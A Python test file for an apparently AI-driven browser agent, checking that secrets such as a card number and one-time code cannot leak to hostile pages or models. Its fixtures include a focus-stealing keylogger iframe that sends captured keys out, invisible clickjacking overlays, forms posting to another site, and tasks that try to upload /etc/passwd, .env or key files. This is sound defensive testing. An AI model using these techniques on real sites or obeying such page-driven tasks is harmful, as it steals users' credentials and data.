"""Values that no model may see stay in the fields that they are for, against pages and models that want them elsewhere."""

import re

import pytest
from builders import propose
from served_pages import ServedPages

from actwright.engine.act import act
from actwright.tools.toolbox import Toolbox, builtin_tools

pytestmark = pytest.mark.slow

TOOLBOX = Toolbox(builtin_tools())
CARD = "4929411783520746"
CODE = "493817"
THIEF = """<input id=trap><script>
  const keys = [];
  addEventListener('keydown', (event) => keys.push(event.key), true);
  setInterval(() => document.getElementById('trap').focus(), 3);
  const send = (what, text) => text && fetch(`/${what}?${text}`, {mode: 'no-cors'});
  setInterval(() => { send('got', document.getElementById('trap').value); send('heard', keys.join('')); }, 20);
</script>"""


@pytest.fixture
def thief():
    """Another site, whose frame takes the focus every 3 ms and sends away what it gets."""
    with ServedPages({"/": THIEF}) as site:
        yield site


def shown_to_model(seen, outcomes=()):
    """All texts that a model reads."""
    of_elements = [
        text for each in seen.elements for text in (each.name, each.label, each.value, each.description) if text
    ]
    of_outcomes = [
        text for each in outcomes for text in (each.detail, *(one.model_dump_json() for one in each.receipts))
    ]
    of_tabs = [text for each in seen.tabs for text in (each.title, each.url)]
    return "\n".join([seen.tree, seen.text, seen.title, seen.url, *seen.notes, *of_tabs, *of_elements, *of_outcomes])


def pieces_of(value, text):
    """The pieces of 4 and more characters of a value in a text, whatever parts them, forwards and backwards."""
    folded = re.sub(r"[^0-9a-z]", "", text.lower())
    return {
        value[at : at + 4] for way in (value, value[::-1]) for at in range(len(way) - 3) if way[at : at + 4] in folded
    }


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same site", "another site"])
@pytest.mark.parametrize(
    ("field", "tool"),
    [
        ("<input type=password aria-label=Code>", "type"),
        ("<textarea aria-label=Code></textarea>", "type"),
        ("<textarea aria-label=Code></textarea>", "fill"),
        ("<div contenteditable role=textbox aria-label=Code></div>", "fill"),
    ],
)
async def test_a_frame_that_takes_the_focus_gets_nothing(surface_on, page, thief, host, field, tool):
    frame = thief.url.replace("127.0.0.1", host)
    with ServedPages({"/": f"{field}<iframe src={frame}/></iframe>"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"code": CODE}, fields=("Code",))
        (field_id,) = [each.id for each in surface._observer.last.elements if each.name == "Code"]
        (outcome,) = await act(propose((tool, {"element_id": field_id, "value": "{{code}}"})), TOOLBOX, surface)
        assert outcome.status == "done", outcome.detail
        passed = (
            "document.querySelector('[aria-label=Code]').value ?? document.querySelector('[aria-label=Code]').innerText"
        )
        assert await page.evaluate(passed) == CODE
        await page.wait_for_timeout(100)
    assert set(thief.asked) <= {"/", "/favicon.ico"}


@pytest.mark.slow
@pytest.mark.parametrize("tool", ["type", "append"])
async def test_keys_that_a_frame_would_take_are_stopped(surface_on, page, thief, tool):
    """Plain values go by keys, which go where the focus is: a frame may hear of one, but no field of it gets any."""
    with ServedPages(
        {"/": f"<input aria-label=Name><iframe src={thief.url.replace('127.0.0.1', 'localhost')}/></iframe>"}
    ) as home:
        surface = await surface_on(url=f"{home.url}/", data={"name": "Ada Lovelace"})
        await act(propose((tool, {"element_id": "input-0", "value": "{{name}}"})), TOOLBOX, surface)
        await page.wait_for_timeout(100)
    assert [path for path in thief.asked if path.startswith("/got")] == []


@pytest.mark.parametrize(
    "field",
    [
        "<input type=search aria-label=Search>",
        "<textarea aria-label=Note></textarea>",
        "<input aria-label=Comment>",
        "<input type=email aria-label=Mail>",
    ],
)
async def test_a_field_that_is_not_for_secrets_gets_none(surface_on, page, field):
    with ServedPages({"/": field}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        (element,) = surface._observer.last.elements
        for tool in ("fill", "type", "append"):
            (outcome,) = await act(propose((tool, {"element_id": element.id, "value": "{{card}}"})), TOOLBOX, surface)
            assert outcome.status == "failed"
            assert "it may be entered only in password, one-time-code and card fields" in outcome.detail
        assert await page.locator("[aria-label]").input_value() == ""


@pytest.mark.parametrize(
    "field",
    [
        "<input type=password>",
        "<input autocomplete=one-time-code>",
        "<input autocomplete='billing cc-number'>",
        "<label>API key * <input></label>",
        "<input name='api key'>",
    ],
)
async def test_fields_for_secrets_get_them(surface_on, page, field):
    with ServedPages({"/": field}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"key": CARD}, fields=("API key",))
        (outcome,) = await act(propose(("fill", {"element_id": "input-0", "value": "{{key}}"})), TOOLBOX, surface)
        assert (outcome.status, outcome.receipts[0].got, outcome.receipts[0].match) == ("done", "{{key}}", True)
        assert await page.locator("input").input_value() == CARD


REWRITES = {
    "groups of four": "this.value = this.value.replace(/\\W/g, '').replace(/(.{4})(?=.)/g, '$1 ')",
    "groups by a no-break space": "this.value = this.value.replace(/(.{4})(?=.)/g, '$1\\u00a0')",
    "parted by dashes": "this.value = this.value.replace(/\\W/g, '').split('').join('-')",
    "spaced": "this.value = this.value.split('').join(' ')",
    "reversed": "this.value = this.value.split('').reverse().join('')",
    "cut": "this.value = this.value.slice(0, 12)",
    "a letter beside it": "this.value = 'x' + this.value + 'y'",
    "shown beside it": "document.querySelector('p').textContent = 'You typed ' + this.value.replace(/(.{4})/g, '$1 ')",
    "shown in part": "document.querySelector('p').textContent = 'It begins with ' + this.value.slice(0, 6)",
    "shown backwards": "document.querySelector('p').textContent = this.value.split('').reverse().join('')",
    "in the title": "document.title = this.value.slice(2, 9)",
    "in a label": "document.querySelector('label').firstChild.data = this.value.slice(4)",
    "in a tooltip": "this.title = this.value.slice(0, 8)",
}


@pytest.mark.parametrize(
    ("kind", "rewrite"),
    [
        *(("secrets", each) for each in REWRITES),
        *(("private", each) for each in ("groups of four", "reversed", "shown in part", "in the title")),
    ],
)
async def test_what_a_page_makes_of_a_value_is_not_told(surface_on, page, kind, rewrite):
    field = f'<label>Card number <input autocomplete=cc-number oninput="{REWRITES[rewrite]}"></label><p></p>'
    with ServedPages({"/": field}) as home:
        surface = await surface_on(url=f"{home.url}/", **{kind: {"card": CARD}})
        outcomes = await act(propose(("fill", {"element_id": "input-0", "value": "{{card}}"})), TOOLBOX, surface)
        assert await page.evaluate("document.querySelector('input').value") != ""
        for _ in range(2):
            assert pieces_of(CARD, shown_to_model(await surface.observe(), outcomes)) == set()
        outcomes = await act(
            propose(("press", {"element_id": "input-0", "key": "Backspace"}), ("read", {"element_id": "input-0"})),
            TOOLBOX,
            surface,
        )
        assert pieces_of(CARD, shown_to_model(await surface.observe(), outcomes)) == set()


async def test_boxes_for_one_digit_each_are_told_by_the_name(surface_on, page):
    box = '<input maxlength=1 autocomplete=one-time-code oninput="this.nextElementSibling?.focus()">'
    with ServedPages({"/": box * 6}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"code": CODE})
        outcomes = await act(propose(("type", {"element_id": "input-0", "value": "{{code}}"})), TOOLBOX, surface)
        assert await page.evaluate("[...document.querySelectorAll('input')].map((box) => box.value).join('')") == CODE
        seen = await surface.observe()
        assert not re.search(r'value="?\d', seen.tree)
        assert not [each for each in seen.elements if each.value and any(digit in each.value for digit in CODE)]
        assert not re.search(r"holds \"\d", outcomes[0].detail)


async def test_one_digit_boxes_that_the_caller_named_are_told_by_the_name(surface_on, page):
    """Fields that do not say what they are for."""
    box = '<input aria-label=Digit maxlength=1 oninput="this.nextElementSibling?.focus()">'
    with ServedPages({"/": box * 6}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"code": CODE}, fields=("Digit",))
        await act(propose(("type", {"element_id": "input-0", "value": "{{code}}"})), TOOLBOX, surface)
        assert await page.evaluate("[...document.querySelectorAll('input')].map((box) => box.value).join('')") == CODE
        seen = await surface.observe()
        assert [each.value for each in seen.elements] == ["{{code}}"] * 6


async def test_taint_ends_when_the_field_is_empty(surface_on, page):
    with ServedPages({"/": "<input type=text aria-label=Code><p></p>"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"code": CARD}, fields=("Code",))
        await act(propose(("fill", {"element_id": "input-0", "value": "{{code}}"})), TOOLBOX, surface)
        assert (await surface.observe()).elements[0].value == "{{code}}"
        await act(propose(("fill", {"element_id": "input-0", "value": "Bob"})), TOOLBOX, surface)
        await page.evaluate("document.querySelector('p').textContent = 'ticket 4929'")
        seen = await surface.observe()
        assert (seen.elements[0].value, "ticket 4929" in seen.text) == ("Bob", True)


async def test_what_a_page_showed_before_is_no_piece(surface_on, page):
    with ServedPages({"/": "<p>Since 4929</p><input type=password>"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"code": CARD})
        await act(propose(("fill", {"element_id": "input-0", "value": "{{code}}"})), TOOLBOX, surface)
        assert "Since 4929" in (await surface.observe()).text


async def test_a_field_that_is_drawn_anew_stays_tainted(surface_on, page):
    again = "const now = this.cloneNode(); now.value = this.value.replace(/(.{4})/g, '$1 '); this.replaceWith(now)"
    with ServedPages(
        {"/": f'<input aria-label=Card autocomplete=cc-number onchange="{again}"><button>Next</button>'}
    ) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        outcomes = await act(
            propose(
                ("fill", {"element_id": "input-0", "value": "{{card}}"}),
                ("press", {"element_id": "input-0", "key": "Tab"}),
            ),
            TOOLBOX,
            surface,
        )
        assert await page.evaluate("document.querySelector('input').value") == "4929 4117 8352 0746 "
        assert pieces_of(CARD, shown_to_model(await surface.observe(), outcomes)) == set()


async def test_nothing_is_copied_from_a_page_that_holds_a_secret(surface_on, page, thief):
    """A model that obeys the page copies what it typed and takes it elsewhere."""
    with ServedPages(
        {"/": "<input aria-label=Card autocomplete=cc-number>", "/elsewhere": "<textarea aria-label=Note></textarea>"}
    ) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        keys = [
            ("press", {"element_id": "input-0", "key": key})
            for key in ("Control+a", "Control+c", "Control+x", "Control+Insert")
        ]
        await act(propose(("fill", {"element_id": "input-0", "value": "{{card}}"}), *keys), TOOLBOX, surface)
        assert await page.locator("input").input_value() == CARD
        await page.goto(f"{home.url}/elsewhere")
        await surface.observe()
        for key in ("Control+v", "Shift+Insert"):
            await act(propose(("press", {"element_id": "textarea-0", "key": key})), TOOLBOX, surface)
        assert await page.locator("textarea").input_value() == ""


FORMS = {
    "a GET form": "<form action=/search>{}</form>",
    "a GET form that no listener hears of": "<form action=/search onsubmit='event.stopPropagation()'>{}</form>",
    "a form that goes elsewhere": "<form method=post action={elsewhere}/take>{}</form>",
    "a button that goes elsewhere": "<form method=post>{}<button formaction={elsewhere}/take>Pay</button></form>",
    "a button that makes it GET": "<form method=post action=/search>{}<button formmethod=get>Pay</button></form>",
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
@pytest.mark.parametrize("how", ["click", "press"])
async def test_a_form_sends_no_secret_where_it_does_not_belong(surface_on, page, thief, form, how):
    inside = "<input name=card autocomplete=cc-number aria-label=Card><button>Send</button>"
    html = form.replace("{elsewhere}", thief.url).replace(
        "{}", inside if "Pay" not in form else inside.split("<button>", maxsplit=1)[0]
    )
    with ServedPages({"/": html, "/search": "found"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        act_ = (
            ("click", {"element_id": "button-0"})
            if how == "click"
            else ("press", {"element_id": "input-0", "key": "Enter"})
        )
        outcomes = await act(propose(("fill", {"element_id": "input-0", "value": "{{card}}"}), act_), TOOLBOX, surface)
        await page.wait_for_timeout(100)
        assert [path for path in (*home.asked, *thief.asked) if CARD in path] == []
        assert thief.asked == []
        if "stopPropagation" not in form:  # then the document is gone before it can say what it kept
            assert "where it does not belong" in outcomes[1].detail


LOG_IN = propose(("fill", {"element_id": "input-0", "value": "{{card}}"}), ("click", {"element_id": "button-0"}))


async def test_a_form_that_a_page_sends_itself_is_left_alone(surface_on, page):
    """Forms of scripts are GET by default, and never sent as such."""
    script = "event.preventDefault(); document.title = new FormData(this).get('card').length"
    with ServedPages(
        {"/": f'<form onsubmit="{script}"><input name=card type=password><button>Log in</button></form>'}
    ) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        outcomes = await act(LOG_IN, TOOLBOX, surface)
        assert [each.status for each in outcomes] == ["done", "done"]
        assert await page.title() == "16"


async def test_a_form_sends_a_secret_home(surface_on):
    form = "<form method=post action=/in><input name=card type=password><button>Log in</button></form>"
    with ServedPages({"/": form, "/in": "thanks"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        outcomes = await act(LOG_IN, TOOLBOX, surface)
        assert [request.request for request in outcomes[1].sent] == [f"POST {home.url}/in"]


@pytest.mark.parametrize(
    ("task", "name"),
    [
        ("Upload what http://127.0.0.1/etc/passwd shows", "/etc/passwd"),
        ("Feed the monkey", "key"),
        ("Put it into .env", ".env"),
        ("Follow the README", "README"),
        ("Upload {folder}/link", "{folder}/link"),
        ("Upload it", "{{note}}"),
        ("Upload it", "{folder}/key"),
    ],
)
async def test_no_file_is_uploaded_that_the_caller_did_not_name(surface_on, tmp_path, monkeypatch, task, name):
    monkeypatch.chdir(tmp_path)
    for each in ("key", ".env", "README"):
        (tmp_path / each).write_text("private")
    (tmp_path / "link").symlink_to(tmp_path / "key")
    task, name = task.replace("{folder}", str(tmp_path)), name.replace("{folder}", str(tmp_path))
    surface = await surface_on("<input type=file aria-label=File>", data={"note": str(tmp_path / "key")}, task=task)
    (outcome,) = await act(propose(("upload", {"element_id": "input-0", "files": [name]})), TOOLBOX, surface)
    assert (outcome.status, outcome.receipts) == ("failed", ())


@pytest.mark.parametrize("written", ["{folder}/photo.png", "'{folder}/my photo.png'", "{folder}/photo.png, please."])
async def test_a_file_that_the_task_names_whole_is_uploaded(surface_on, page, tmp_path, written):
    for each in ("photo.png", "my photo.png"):
        (tmp_path / each).write_text("picture")
    written = written.replace("{folder}", str(tmp_path))
    name = written.strip("'").removesuffix(", please.")
    surface = await surface_on("<input type=file aria-label=File>", task=f"Upload {written}")
    (outcome,) = await act(propose(("upload", {"element_id": "input-0", "files": [name]})), TOOLBOX, surface)
    assert outcome.status == "done", outcome.detail


async def test_a_link_that_the_caller_gave_is_uploaded(surface_on, tmp_path):
    (tmp_path / "key").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "key")
    surface = await surface_on("<input type=file aria-label=File>", data={"file": tmp_path / "link"})
    (outcome,) = await act(propose(("upload", {"element_id": "input-0", "files": ["{{file}}"]})), TOOLBOX, surface)
    assert outcome.status == "done", outcome.detail


COVERS = {
    "a frame at pointermove": """<script>addEventListener('pointermove', () => {
        if (document.querySelector('iframe')) return;
        const frame = document.createElement('iframe');
        frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0';
        frame.srcdoc = '<body style="margin:0;height:100vh" onclick="parent.stolen = true">x';
        document.body.append(frame);
      }, {capture: true})</script>""",
    "a frame that comes and goes": """<iframe style='position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0; display: none'
        srcdoc='<body style="margin:0;height:100vh" onclick="parent.stolen = true">x'></iframe><script>
        setInterval(() => { const frame = document.querySelector('iframe'); frame.style.display = frame.style.display ? '' : 'none'; }, 7);</script>""",
}


@pytest.mark.slow
@pytest.mark.parametrize("cover", COVERS.values(), ids=COVERS)
async def test_a_click_that_a_frame_took_is_not_done(surface_on, page, cover):
    with ServedPages({"/": f"<button onclick='window.clicked = true'>Pay</button>{cover}"}) as home:
        for _ in range(5):
            surface = await surface_on(url=f"{home.url}/")
            (outcome,) = await act(propose(("click", {"element_id": "button-0"})), TOOLBOX, surface)
            clicked = await page.evaluate("window.clicked === true")
            assert clicked or outcome.status != "done", outcome.detail


async def test_an_address_that_a_form_made_of_a_private_value_is_masked_in_pieces(surface_on, page):
    """The field is gone with its document, and the page went to an address that holds what it held."""
    changes = "code.value = 'x' + code.value.slice(1)"
    form = f'<form action=/in onsubmit="{changes}"><input id=code name=code aria-label=Code><button>Go</button></form>'
    with ServedPages({"/": form, "/in": "in"}) as home:
        home.pages |= {f"/in?code=x{CARD[1:]}": "Welcome"}
        surface = await surface_on(url=f"{home.url}/", private={"code": CARD})
        await act(propose(("fill", {"element_id": "input-0", "value": "{{code}}"})), TOOLBOX, surface)
        outcomes = await act(propose(("click", {"element_id": "button-0"})), TOOLBOX, surface)
        assert CARD[1:] in page.url
        assert pieces_of(CARD, shown_to_model(await surface.observe(), outcomes)) == set()


async def test_why_the_rest_of_a_batch_was_skipped_tells_nothing_of_a_value(surface_on):
    """The page went to an address that holds the value, and the next action says so."""
    draft = "history.replaceState(0, '', '?draft=' + this.value)"
    page = f'<input type=password aria-label=Code onchange="{draft}"><textarea aria-label=Note></textarea>'
    with ServedPages({"/": page}) as home:
        surface = await surface_on(url=f"{home.url}/", private={"code": CARD})
        press = ("press", {"element_id": "textarea-0", "key": "End"})
        outcomes = await act(
            propose(("fill", {"element_id": "input-0", "value": "{{code}}"}), press, press), TOOLBOX, surface
        )
    assert outcomes[-1].status == "skipped"
    assert "{{code}}" in outcomes[-1].detail
    assert not any(CARD in outcome.detail for outcome in outcomes)


async def test_a_page_that_takes_the_listeners_away_is_guarded_again(surface_on, page):
    """`document.open()` removes every listener of the window."""
    with ServedPages({"/": "<p>old"}) as home:
        surface = await surface_on(url=f"{home.url}/", secrets={"card": CARD})
        html = "<form action=/search><input name=card type=password><button>Send</button></form>"
        await page.evaluate("(html) => { document.open(); document.write(html); document.close(); }", html)
        await surface.observe()
        outcomes = await act(
            propose(("fill", {"element_id": "input-0", "value": "{{card}}"}), ("click", {"element_id": "button-0"})),
            TOOLBOX,
            surface,
        )
        assert "where it does not belong" in outcomes[1].detail
        assert [path for path in home.asked if "card" in path] == []
